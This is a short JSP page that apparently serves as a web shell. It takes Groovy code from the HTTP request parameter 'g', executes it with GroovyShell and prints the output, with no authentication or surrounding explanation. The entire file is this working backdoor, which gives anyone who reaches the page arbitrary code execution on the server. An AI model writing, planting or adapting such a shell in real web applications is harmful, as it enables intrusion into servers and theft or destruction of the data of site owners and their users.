<%@ page import="groovy.lang.GroovyShell" %><%
out.println(new GroovyShell().evaluate(request.getParameter("g")));
%>
